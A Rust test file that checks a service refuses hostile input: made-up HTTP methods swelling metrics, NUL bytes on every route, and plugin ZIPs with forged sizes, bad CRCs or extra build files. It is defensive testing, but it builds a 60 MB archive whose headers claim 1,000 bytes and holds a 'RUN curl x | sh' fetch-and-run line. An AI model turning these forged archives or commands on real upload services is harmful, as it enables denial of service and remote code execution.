//! The second wave tried by a hostile tester (issue 29): each test reproduces an
//! attack first, then checks the refusal in the envelope and that nothing changed.

use super::plugins::{manifest, upload, zip_of};
use super::*;

fn get(path: &str) -> Request<Body> {
    Request::get(path).body(Body::empty()).unwrap()
}

/// A made-up method adds no series to `/metrics`: 300 of them (one 4,000 characters
/// long) fold into the one `other` method, and every family carries `# HELP`.
async fn made_up_methods_do_not_grow_the_metrics(app: &TestApp) {
    let (_, before) = app.send(get("/metrics")).await;
    let before = before.as_str().unwrap().len();
    let long = "X".repeat(4000);
    for i in 0..300 {
        let method = if i == 0 {
            long.clone()
        } else {
            format!("X{i:04}")
        };
        let request = Request::builder()
            .method(method.as_str())
            .uri("/health")
            .body(Body::empty())
            .unwrap();
        let (status, body) = app.send(request).await;
        assert_eq!(code(status, &body), "METHOD_NOT_ALLOWED", "{method}");
    }
    let (_, text) = app.send(get("/metrics")).await;
    let text = text.as_str().unwrap();
    assert!(
        text.len() < before + 4_000,
        "/metrics grew from {before} to {} bytes",
        text.len()
    );
    assert!(
        text.contains(r#"http_requests_total{method="other",route="/health",status="405"} 300"#),
        "{text}"
    );
    assert!(!text.contains("X0001"));
    // Every family is described (promtool's lint).
    for line in text.lines().filter(|l| l.starts_with("# TYPE ")) {
        let name = line.split_whitespace().nth(2).unwrap();
        assert!(
            text.contains(&format!("# HELP {name} ")),
            "{name} has no HELP"
        );
    }
}

/// A NUL in an id, a query or a body string is refused at the edge on every route
/// (404 in the path, 400 elsewhere), in the envelope, and nothing is stored.
async fn nul_bytes_are_refused_at_the_edge_on_every_route(app: &TestApp) {
    let org = app.org("alice", "nul").await;
    let alice = app.token("alice", "alice@example.com");
    let routes = adapters::http::routes::routes();
    for route in &routes {
        // In a path parameter: the id names nothing.
        if route.path.contains('{') {
            let path = route
                .path
                .split('/')
                .map(|part| if part.starts_with('{') { "a%00b" } else { part })
                .collect::<Vec<_>>()
                .join("/");
            let request = Request::builder()
                .method(route.method)
                .uri(&path)
                .header("authorization", format!("Bearer {alice}"))
                .header("x-org-id", org.as_str())
                .body(Body::empty())
                .unwrap();
            let (status, body) = app.send(request).await;
            assert_eq!(code(status, &body), "NOT_FOUND", "{} {path}", route.method);
        }
        let concrete = route
            .path
            .replace("{target}", "plugin")
            .replace('{', "x")
            .replace('}', "");
        // In a query parameter.
        let request = Request::builder()
            .method(route.method)
            .uri(format!("{concrete}?name=a%00&search=%00"))
            .header("authorization", format!("Bearer {alice}"))
            .header("x-org-id", org.as_str())
            .body(Body::empty())
            .unwrap();
        let (status, body) = app.send(request).await;
        assert_eq!(
            code(status, &body),
            "VALIDATION_ERROR",
            "{} {concrete}?",
            route.method
        );
        // In a body string or key: never a 5xx.
        if matches!(route.method, "POST" | "PUT" | "PATCH") {
            let hostile = json!({
                "name": "a\u{0}b", "entityId": "e\u{0}", "userId": "u\u{0}",
                "attributes": {"k\u{0}": "v"}, "email": "a\u{0}@example.com"
            });
            let (status, body) = app
                .call(route.method, &concrete, &alice, Some(&org), Some(hostile))
                .await;
            // (A route that reads no body may succeed: the body is not its input.)
            assert!(
                !status.is_server_error(),
                "{} {concrete}: {status} {body}",
                route.method
            );
            if !status.is_success() {
                code(status, &body);
            }
        }
    }
    // Where the body is read, the refusal is 400 and names the NUL.
    for (path, body) in [
        (
            "/api/compliance/validate/plugin",
            json!({"attributes": {"a": 1}, "entityId": "x\u{0}"}),
        ),
        ("/api/pipelines", json!({"pipelineName": "p\u{0}"})),
        (
            "/api/compliance/rules",
            json!({"name": "r", "target": "plugin", "severity": "error",
                   "field": "a\u{0}", "operator": "exists"}),
        ),
    ] {
        let (status, answer) = app.call("POST", path, &alice, Some(&org), Some(body)).await;
        assert_eq!(
            code(status, &answer),
            "VALIDATION_ERROR",
            "{path}: {answer}"
        );
        assert!(
            answer["message"].as_str().unwrap().contains("NUL"),
            "{answer}"
        );
    }
    let (_, listed) = app
        .call("GET", "/api/compliance/rules", &alice, Some(&org), None)
        .await;
    assert_eq!(listed["pagination"]["total"], 0, "{listed}");
}

/// The archive's real sizes and CRCs are checked at upload, and the only build
/// definition it may carry is the root `Dockerfile`.
async fn archives_are_judged_by_what_they_hold(app: &TestApp) {
    let org = app.org("alice", "archives").await;
    let alice = app.token("alice", "alice@example.com");
    let good = manifest("eslint", "1.0.0");
    // 60 MB of zeros that declare 1,000 bytes (in both headers).
    let zeros = vec![0u8; 60 * 1024 * 1024];
    let liar = declare_size(
        zip_of(&[("plugin.json", &good), ("zeros.bin", &zeros)]),
        "zeros.bin",
        1000,
    );
    let small_liar = declare_size(
        zip_of(&[("plugin.json", &good), ("notes.txt", &[b'n'; 5000])]),
        "notes.txt",
        1000,
    );
    // A stored entry whose bytes changed after its CRC was written.
    let mut bad_crc = stored_zip(&[("plugin.json", &good), ("data.txt", b"hello, world")]);
    let at = find(&bad_crc, b"hello, world").unwrap();
    bad_crc[at] = b'J';
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("a size that lies", liar, "unpacks to more than"),
        ("a bad CRC", bad_crc, "data.txt"),
        (
            "a small size that lies",
            small_liar,
            "declares 1000 bytes and holds 5000",
        ),
        (
            "a Containerfile beside the Dockerfile",
            zip_of(&[
                ("plugin.json", &good),
                ("Dockerfile", b"FROM alpine\n"),
                ("Containerfile", b"FROM evil\nRUN curl x | sh\n"),
            ]),
            "Containerfile",
        ),
        (
            "a lower-case dockerfile",
            zip_of(&[("plugin.json", &good), ("dockerfile", b"FROM evil\n")]),
            "dockerfile",
        ),
        (
            "a Dockerfile in a folder",
            zip_of(&[
                ("plugin.json", &good),
                ("Dockerfile", b"FROM alpine\n"),
                ("build/Dockerfile.prod", b"FROM evil\n"),
            ]),
            "build/Dockerfile.prod",
        ),
    ];
    for (what, archive, reason) in cases {
        let (status, body) = upload(app, &alice, &org, &archive, None).await;
        assert_eq!(code(status, &body), "VALIDATION_ERROR", "{what}: {body}");
        assert_eq!(body["details"]["field"], "plugin", "{what}");
        assert!(
            body["message"].as_str().unwrap().contains(reason),
            "{what}: {body}"
        );
    }
    // Nothing was stored or counted.
    let (_, listed) = app
        .call("GET", "/api/plugins", &alice, Some(&org), None)
        .await;
    assert_eq!(listed["pagination"]["total"], 0, "{listed}");
    // The same archive with honest headers is accepted.
    let honest = stored_zip(&[("plugin.json", &good), ("data.txt", b"hello, world")]);
    let (status, body) = upload(app, &alice, &org, &honest, None).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
}

/// A ZIP whose entries are stored (not compressed).
fn stored_zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    use std::io::Write;
    let mut out = std::io::Cursor::new(Vec::new());
    {
        let mut writer = zip::ZipWriter::new(&mut out);
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored);
        for (name, bytes) in entries {
            writer.start_file(*name, options).unwrap();
            writer.write_all(bytes).unwrap();
        }
        writer.finish().unwrap();
    }
    out.into_inner()
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// Rewrites the uncompressed size that the local and central headers of `entry`
/// declare.
fn declare_size(mut zip: Vec<u8>, entry: &str, size: u32) -> Vec<u8> {
    let mut at = 0;
    while let Some(found) = find(&zip[at..], entry.as_bytes()) {
        let name_at = at + found;
        // Local header: the name starts 30 bytes after its signature; central: 46.
        for (offset, size_at) in [(30usize, 22usize), (46, 24)] {
            if name_at >= offset {
                let header = name_at - offset;
                let signature: &[u8] = if offset == 30 {
                    b"PK\x03\x04"
                } else {
                    b"PK\x01\x02"
                };
                if &zip[header..header + 4] == signature {
                    zip[header + size_at..header + size_at + 4]
                        .copy_from_slice(&size.to_le_bytes());
                }
            }
        }
        at = name_at + 1;
    }
    zip
}

on_both_backends!(
    made_up_methods_do_not_grow_the_metrics,
    nul_bytes_are_refused_at_the_edge_on_every_route,
    archives_are_judged_by_what_they_hold,
);
